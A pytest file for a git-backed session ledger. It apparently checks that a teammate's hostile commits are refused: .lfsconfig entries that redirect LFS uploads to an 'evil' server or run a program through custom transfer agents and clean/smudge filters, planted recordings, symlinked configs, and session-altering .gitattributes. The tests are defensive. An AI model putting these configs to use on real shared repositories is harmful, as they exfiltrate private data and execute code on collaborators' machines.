"""What a teammate commits to the shared ledger is hostile: real attacks through the remote."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import trio

from ox_core.errors import LedgerBlockedError
from ox_handler_session_finalize.diagnose import diagnose
from ox_handler_session_finalize.ledger import Ledger
from ox_handler_session_finalize.sync import SyncPaused, sync_ledger
from ox_session_capture import records

from .conftest import LfsServer
from .finalize_support import clone, git, make_session

NAME = "2026-11-25T10-00-dev-a1"


def teammate_commits(
    remote: Path, root: Path, files: dict[str, bytes], *, force: bool = True
) -> None:
    """A teammate's clone commits `files` (even ones the ledger ignores) and pushes."""
    mate = clone(remote, root)
    for rel, data in files.items():
        (mate / rel).parent.mkdir(parents=True, exist_ok=True)
        (mate / rel).write_bytes(data)
        git(mate, "add", *(["-f"] if force else []), "--", rel)
    git(mate, "commit", "-q", "-m", "teammate")
    git(mate, "push", "-q", "origin", "HEAD:main")


async def test_a_teammates_commit_into_the_cache_never_overwrites_a_recording(
    ledger: Path, remote: Path, tmp_path: Path
) -> None:
    folder = make_session(records.ledger_cache_sessions(ledger), NAME)
    ours = (folder / records.RAW).read_bytes()
    rel = f".ox/cache/sessions/{NAME}/{records.RAW}"
    teammate_commits(remote, tmp_path / "mate", {rel: b'{"type":"user","content":"theirs"}\n'})
    head = git(ledger, "rev-parse", "HEAD")
    with pytest.raises(SyncPaused, match=r"\.ox/cache/sessions/"):
        await sync_ledger(Ledger(ledger))
    assert (folder / records.RAW).read_bytes() == ours
    assert git(ledger, "rev-parse", "HEAD") == head


async def test_a_teammates_recording_is_never_planted_in_the_cache(
    ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # The cache is not there yet: nothing to overwrite, but a planted recording (its marker
    # names a file to read) would be scanned as this machine's own.
    marker = b'{"parent_pid": 1, "session_file": "/etc/hostname"}'
    planted = {f".ox/cache/sessions/{NAME}/{records.RAW}": b"{}\n"}
    planted[f".ox/cache/sessions/{NAME}/{records.MARKER}"] = marker
    teammate_commits(remote, tmp_path / "mate", planted)
    repo = Ledger(ledger)
    await repo.publish("s-ours", {"raw.jsonl": b'{"type":"user","content":"ours"}\n'})
    with pytest.raises(SyncPaused, match=r"\.ox/cache/sessions/"):
        await sync_ledger(repo)
    assert not (ledger / ".ox").exists()
    assert await repo.conflicts() == []


async def test_a_teammates_file_over_an_ignored_one_is_refused(
    ledger: Path, remote: Path, tmp_path: Path
) -> None:
    (ledger / ".gitignore").write_text(".ox/cache/\n.env\n")
    git(ledger, "commit", "-q", "-am", "ignore .env")
    await sync_ledger(Ledger(ledger))
    (ledger / ".env").write_text("TOKEN=mine\n")
    teammate_commits(remote, tmp_path / "mate", {".env/x": b"theirs\n"})
    with pytest.raises(SyncPaused, match=r"\.env/x"):
        await sync_ledger(Ledger(ledger))
    assert (ledger / ".env").read_text() == "TOKEN=mine\n"


# ---------------------------------------------------------------- LFS


async def _publish_with_lfs(ledger: Path, server: LfsServer) -> None:
    git(ledger, "config", "lfs.url", server.url)
    git(ledger, "config", "lfs.locksverify", "false")
    repo = Ledger(ledger)
    await sync_ledger(repo)
    await repo.publish(NAME, {"raw.jsonl": b'{"type":"user","content":"private"}\n'})
    await sync_ledger(repo)


async def test_a_teammates_lfsconfig_never_redirects_uploads(
    ledger: Path, remote: Path, lfs_server: LfsServer, tmp_path: Path
) -> None:
    evil = LfsServer(tmp_path / "evil-root")
    (tmp_path / "evil-root").mkdir()
    evil.start()
    try:
        config = f'[lfs]\n\tpushurl = {evil.url}\n[remote "origin"]\n\tlfspushurl = {evil.url}\n'
        teammate_commits(remote, tmp_path / "mate", {".lfsconfig": config.encode()})
        await _publish_with_lfs(ledger, lfs_server)
        assert evil.objects() == {}
        assert lfs_server.objects()
    finally:
        evil.stop()


async def test_a_teammates_lfsconfig_never_writes_outside_the_ledger(
    ledger: Path, remote: Path, lfs_server: LfsServer, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    git(tmp_path, "init", "-q", "--bare", str(outside))
    config = f"[lfs]\n\tpushurl = file://{outside}\n"
    teammate_commits(remote, tmp_path / "mate", {".lfsconfig": config.encode()})
    await _publish_with_lfs(ledger, lfs_server)
    assert not (outside / "lfs").exists()


async def test_a_teammates_lfsconfig_never_runs_a_program(
    ledger: Path, remote: Path, lfs_server: LfsServer, tmp_path: Path
) -> None:
    ran = tmp_path / "ran"
    prog = tmp_path / "agent.sh"
    prog.write_text(f"#!/bin/sh\ntouch {ran}\nexit 1\n")
    prog.chmod(0o755)
    config = (
        f"[lfs]\n\tstandalonetransferagent = evil\n\tconcurrenttransfers = 1\n"
        f'[lfs "customtransfer.evil"]\n\tpath = {prog}\n\targs = --evil\n'
        f'[lfs "extension.evil"]\n\tclean = {prog} %f\n\tsmudge = {prog} %f\n'
    )
    teammate_commits(remote, tmp_path / "mate", {".lfsconfig": config.encode()})
    await _publish_with_lfs(ledger, lfs_server)
    assert not ran.exists()


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[LfsServer]:
    """A second LFS server: where a teammate's `.lfsconfig` would send sessions."""
    server = LfsServer(tmp_path / "evil-root")
    (tmp_path / "evil-root").mkdir()
    server.start()
    try:
        yield server
    finally:
        server.stop()


async def _publish_paused(repo: Ledger, ledger: Path, match: str) -> None:
    head = git(ledger, "rev-parse", "HEAD")
    with pytest.raises(LedgerBlockedError, match=match):
        await repo.publish(NAME, {"raw.jsonl": b'{"type":"user","content":"private"}\n'})
    assert git(ledger, "rev-parse", "HEAD") == head
    assert git(ledger, "status", "--porcelain", "--", "sessions") == ""


async def test_an_endpoint_only_lfsconfig_names_pauses_until_a_person_names_it(
    ledger: Path, remote: Path, lfs_server: LfsServer, evil: LfsServer, tmp_path: Path
) -> None:
    # No endpoint in this clone's git config: the committed file alone would decide.
    teammate_commits(
        remote, tmp_path / "mate", {".lfsconfig": f"[lfs]\n\turl = {evil.url}\n".encode()}
    )
    git(ledger, "config", "lfs.locksverify", "false")
    repo = Ledger(ledger)
    await sync_ledger(repo)
    await _publish_paused(repo, ledger, rf"sends LFS uploads to {evil.url}.*git -C .* lfs\.url")
    assert evil.objects() == {}
    doctor = await trio.to_thread.run_sync(diagnose, ledger)
    assert [(d.ok, d.detail) for d in doctor if d.name == "git-lfs"] == [
        (False, f"publishing paused: {(await repo.facts()).lfs_refusal}")
    ]
    # The person names their team's server: publishing goes on, to that one only.
    git(ledger, "config", "lfs.url", lfs_server.url)
    await repo.publish(NAME, {"raw.jsonl": b'{"type":"user","content":"private"}\n'})
    await sync_ledger(repo)
    assert evil.objects() == {}
    assert lfs_server.objects()


async def test_a_lfsconfig_pulled_before_a_push_never_redirects_it(
    ledger: Path, remote: Path, evil: LfsServer, tmp_path: Path
) -> None:
    # The ledger routes content through LFS by `.gitattributes`, to the remote's own endpoint
    # (a `file://` remote: git-lfs stores objects beside it; no `lfs.url` anywhere). A session
    # is committed, then the sync brings a `.lfsconfig` before pushing it: git-lfs' pre-push
    # hook would upload to that file's server.
    git(ledger, "remote", "set-url", "origin", f"file://{remote}")
    attributes = "sessions/**/raw.jsonl filter=lfs diff=lfs merge=lfs -text\n"
    (ledger / ".gitattributes").write_text(attributes)
    git(ledger, "add", ".gitattributes")
    git(ledger, "commit", "-q", "-m", "lfs")
    repo = Ledger(ledger)
    await sync_ledger(repo)
    await repo.publish(NAME, {"raw.jsonl": b'{"type":"user","content":"private"}\n'})
    config = f"[lfs]\n\tpushurl = {evil.url}\n".encode()
    teammate_commits(remote, tmp_path / "mate", {".lfsconfig": config})
    with pytest.raises(LedgerBlockedError, match=r"sends LFS uploads to"):
        await sync_ledger(repo)
    assert evil.objects() == {}
    assert NAME not in git(remote, "ls-tree", "-r", "--name-only", "main")


async def test_a_lfsconfig_link_is_never_read_through(
    ledger: Path, remote: Path, evil: LfsServer, tmp_path: Path
) -> None:
    outside = tmp_path / "outside.cfg"
    outside.write_text(f"[lfs]\n\turl = {evil.url}\n")
    (ledger / ".gitattributes").write_text(
        "sessions/**/raw.jsonl filter=lfs diff=lfs merge=lfs -text\n"
    )
    (ledger / ".lfsconfig").symlink_to(outside)
    git(ledger, "add", ".gitattributes", ".lfsconfig")
    git(ledger, "commit", "-q", "-m", "lfs")
    await _publish_paused(Ledger(ledger), ledger, r"\.lfsconfig is not a regular file")
    assert evil.objects() == {}


async def test_a_lfsconfig_extension_pauses_with_the_key_to_remove(
    ledger: Path, remote: Path, lfs_server: LfsServer, tmp_path: Path
) -> None:
    # git-lfs takes the extension's priority from the file (not its commands), then fails
    # every add of a content file: the pause names the key instead of git's error.
    config = '[lfs "extension.evil"]\n\tpriority = 0\n'
    teammate_commits(remote, tmp_path / "mate", {".lfsconfig": config.encode()})
    git(ledger, "config", "lfs.url", lfs_server.url)
    repo = Ledger(ledger)
    await sync_ledger(repo)
    await _publish_paused(repo, ledger, r"lfs\.extension\.evil\.priority")


# ---------------------------------------------------------------- sessions


async def test_a_union_merge_attribute_never_mixes_two_sessions(
    remote: Path, tmp_path: Path, git_env: None
) -> None:
    a, b = (clone(remote, tmp_path / n) for n in ("a", "b"))
    (a / ".gitattributes").write_text("sessions/** merge=union\n")
    git(a, "add", ".gitattributes")
    git(a, "commit", "-q", "-m", "attributes")
    ledger_a, ledger_b = Ledger(a), Ledger(b)
    await ledger_a.publish("same", {"raw.jsonl": b'{"type":"user","content":"from a"}\n'})
    await sync_ledger(ledger_a)
    await ledger_b.publish("same", {"raw.jsonl": b'{"type":"user","content":"from b"}\n'})
    synced = await sync_ledger(ledger_b)
    from_a = b'{"type":"user","content":"from a"}\n'
    assert (b / "sessions" / "same" / "raw.jsonl").read_bytes() == from_a
    assert len(synced.kept_both) == 1


@pytest.mark.parametrize(
    "attributes",
    [
        "sessions/** working-tree-encoding=UTF-16",  # every `git add` of a session fails
        "sessions/** ident",  # `$Id$` in a transcript rewritten in the work tree
        "sessions/** text eol=crlf",  # teammates' sessions checked out with CRLF
    ],
)
async def test_a_teammates_attributes_never_change_session_bytes(
    ledger: Path, remote: Path, tmp_path: Path, attributes: str
) -> None:
    theirs = b'{"type":"user","content":"theirs $Id$ \\u00e9"}\n'
    teammate_commits(remote, tmp_path / "mate", {"sessions/theirs/raw.jsonl": theirs})
    teammate_commits(remote, tmp_path / "mate2", {".gitattributes": f"{attributes}\n".encode()})
    repo = Ledger(ledger)
    await sync_ledger(repo)
    ours = '{"type":"user","content":"ours $Id$ é"}\n'.encode()
    await repo.publish(NAME, {"raw.jsonl": ours})
    await sync_ledger(repo)
    assert git(remote, "cat-file", "-p", f"main:sessions/{NAME}/raw.jsonl").encode() == ours
    assert (ledger / "sessions" / NAME / "raw.jsonl").read_bytes() == ours
    assert (ledger / "sessions" / "theirs" / "raw.jsonl").read_bytes() == theirs


async def test_the_attributes_pin_is_never_written_through_a_link(
    ledger: Path, remote: Path, tmp_path: Path
) -> None:
    # Publishing goes on (without the pin); the sync, which checks teammates' files out under
    # it, pauses with the path to fix.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.write_text("mine\n")
    info = ledger / ".git" / "info"
    info.mkdir(exist_ok=True)
    (info / "attributes").unlink(missing_ok=True)
    (info / "attributes").symlink_to(elsewhere)
    repo = Ledger(ledger)
    await repo.publish(NAME, {"raw.jsonl": b'{"type":"user","content":"ours"}\n'})
    teammate_commits(remote, tmp_path / "mate", {"sessions/theirs/raw.jsonl": b"{}\n"})
    with pytest.raises(LedgerBlockedError, match=r"info/attributes .*regular file"):
        await sync_ledger(repo)
    assert elsewhere.read_text() == "mine\n"
    assert (info / "attributes").is_symlink()
    assert NAME in git(ledger, "ls-tree", "-r", "--name-only", "HEAD")
